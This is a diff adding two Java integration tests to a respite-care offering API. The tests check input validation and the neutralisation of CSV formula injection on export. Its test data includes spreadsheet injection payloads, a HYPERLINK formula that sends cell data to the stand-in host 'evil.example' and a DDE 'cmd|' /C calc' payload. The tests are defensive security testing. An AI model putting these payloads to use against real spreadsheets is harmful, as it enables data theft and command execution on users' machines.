@@ -300,6 +300,98 @@ public class RespiteIT extends MantelkringTestSupport {
         assertTrue(api.get(CONSULENT_A, BASE_A).contentType().startsWith("application/json"));
     }
 
+    private static String firstInvalid(JsonNode problem) {
+        return problem.path("invalidParams").get(0).path("name").asText();
+    }
+
+    private int total(String user, String query) {
+        return api.get(user, BASE_A + "?" + query).json().path("paginering").path("totaal").asInt();
+    }
+
+    /** Issue 16 items 4 and 8: control characters and postcodes PostNL does not issue are refused, nothing stored. */
+    @Test
+    public void controlCharactersAndUnissuedPostcodesAreRefusedAndNothingIsStored() {
+        int before = total(CONSULENT_A, "zoekterm=tekentest");
+        // JSON: the field path is named (single-line fields refuse line breaks too; free text allows them)
+        assertEquals("titel", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
+                offering("Tekentest\\u0000nul", "dagopvang", "\"dementie\"", 52.37, 4.9, null)), 400)));
+        assertEquals("omschrijving", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
+                offering("Tekentest esc", "dagopvang", "\"dementie\"", 52.37, 4.9,
+                        "\"omschrijving\":\"rood \\u001b[31m\"")), 400)));
+        assertEquals("aanbieder.contactpersoon.naam", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
+                offering("Tekentest regel", "dagopvang", "\"dementie\"", 52.37, 4.9, null)
+                        .replace("Test Persoon", "Test\\nPersoon")), 400)));
+        assertEquals("locaties.0.postcode", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
+                offering("Tekentest postcode", "dagopvang", "\"dementie\"", 52.37, 4.9, null)
+                        .replace("1011 AB", "1011 SS")), 400)));
+        assertEquals("locaties.0.postcode", firstInvalid(assertProblem(api.json(CONSULENT_A, "POST", BASE_A,
+                offering("Tekentest postcode", "dagopvang", "\"dementie\"", 52.37, 4.9, null)
+                        .replace("1011 AB", "0123 AB")), 400)));
+        assertEquals(before, total(CONSULENT_A, "zoekterm=tekentest"));
+        Api.Res free = api.json(CONSULENT_A, "POST", BASE_A, offering("Tekentest vrije tekst", "dagopvang",
+                "\"dementie\"", 52.37, 4.9, "\"externId\":\"tekentest-vrij\",\"omschrijving\":\"Regel 1\\nRegel 2\\tkolom\""));
+        assertEquals(free.toString(), 201, free.status());
+        assertEquals("Regel 1\nRegel 2\tkolom", free.json().path("omschrijving").asText());
+        // a postcode area: name checked, area 1000-9999
+        String areas = "/gemeenten/GM0363/postcodegebieden";
+        assertEquals("naam", firstInvalid(assertProblem(api.json(BEHEERDER_A, "PUT", areas + "/1019",
+                "{\"naam\":\"Oost\\u0000\",\"lat\":52.37,\"lon\":4.94}"), 400)));
+        assertEquals("postcode", firstInvalid(assertProblem(api.json(BEHEERDER_A, "PUT", areas + "/0999",
+                "{\"naam\":\"Nul\",\"lat\":52.37,\"lon\":4.94}"), 400)));
+        assertFalse(api.get(CONSULENT_A, areas + "?paginaGrootte=100").body().contains("1019"));
+        // a search term (query parameter) is single-line text
+        assertEquals("zoekterm", firstInvalid(assertProblem(api.get(CONSULENT_A, BASE_A + "?zoekterm=a%1Bb"), 400)));
+        assertEquals("postcode", firstInvalid(assertProblem(api.get(CONSULENT_A, BASE_A + "?postcode=1011%20SD"),
+                400)));
+        // CSV import: the row is refused naming the column, nothing of it stored
+        Api.Res imported = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", CSV_HEADER + "\n"
+                + "teken-1;Tekentest nul\u0000;dagopvang;locatie;professioneel;dementie;wlz;De Hoeve;;1011;52.37;4.9\n"
+                + "teken-2;Tekentest esc;dagopvang;locatie;professioneel;dementie;wlz;De \u001bHoeve;;1011;52.37;4.9\n"
+                + "teken-3;Tekentest pc;dagopvang;locatie;professioneel;dementie;wlz;De Hoeve;;1011 SA;52.37;4.9\n");
+        assertEquals(imported.toString(), 200, imported.status());
+        JsonNode rows = imported.json().path("rijen");
+        assertEquals(3, imported.json().path("afgewezen").asInt());
+        assertEquals("titel", rows.get(0).path("fouten").get(0).path("name").asText());
+        assertEquals("aanbieder.naam", rows.get(1).path("fouten").get(0).path("name").asText());
+        assertEquals("locatie.postcode", rows.get(2).path("fouten").get(0).path("name").asText());
+        assertEquals(before + 1, total(CONSULENT_A, "zoekterm=tekentest"));   // only the free-text one
+    }
+
+    /** Issue 16 item 6: text that a spreadsheet would run is exported as text, and imported back as it was. */
+    @Test
+    public void theExportNeutralisesFormulas() throws Exception {
+        Api.Res imported = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv", "externId;titel;omschrijving;"
+                + "soort;zorgplek;uitvoering;doelgroepen;financiering;aanbieder.naam;aanbieder.telefoon;"
+                + "locatie.postcode;locatie.lat;locatie.lon\n"
+                + "formule-1;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Klik hier\"\")\";"
+                + "@SUM(1+1)*cmd|' /C calc'!A0;dagopvang;locatie;professioneel;dementie;wlz;+Zorg;+31 20 1234567;"
+                + "1011;52.37;4.9\n"
+                + "formule-2;-Formuletest min;+plus;dagopvang;locatie;professioneel;dementie;wlz;@Zorg;;1011;52.37;4.9\n");
+        assertEquals(imported.toString(), 2, imported.json().path("aangemaakt").asInt());
+        Api.Res export = accept(CONSULENT_A, BASE_A, "text/csv");
+        assertEquals(200, export.status());
+        String formula1 = export.body().lines().filter(l -> l.startsWith("formule-1,")).findFirst().orElseThrow();
+        String formula2 = export.body().lines().filter(l -> l.startsWith("formule-2,")).findFirst().orElseThrow();
+        assertTrue(formula1, formula1.startsWith(
+                "formule-1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Klik hier\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,"));
+        assertTrue(formula1, formula1.contains(",'+Zorg,"));
+        assertTrue(formula1, formula1.contains(",'+31 20 1234567,"));
+        assertTrue(formula2, formula2.startsWith("formule-2,'-Formuletest min,'+plus,"));
+        assertTrue(formula2, formula2.contains(",'@Zorg,"));
+        // no cell of the whole export starts a formula
+        for (String line : export.body().lines().toList()) {
+            assertFalse(line, line.matches("(^|.*,)\"?[=+@-].*") && !line.startsWith("externId,"));
+        }
+        // re-imported unchanged: the stored text is what the provider sent
+        String header = export.body().lines().findFirst().orElseThrow();
+        JsonNode again = api.send(BEHEERDER_A, "POST", BASE_A + "/importen", "text/csv",
+                header + "\r\n" + formula1 + "\r\n" + formula2 + "\r\n").json();
+        assertEquals(again.toString(), 2, again.path("ongewijzigd").asInt());
+        String id = imported.json().path("rijen").get(0).path("aanbodId").asText();
+        assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1;\"Klik hier\")",
+                api.get(CONSULENT_A, BASE_A + "/" + id).json().path("titel").asText());
+    }
+
     @Test
     public void anOfferingSourceFeedsTheCatalogue() {
         assertProblem(api.send(BEHEERDER_A, "POST", BASE_A + "/synchronisaties", null, null), 409);
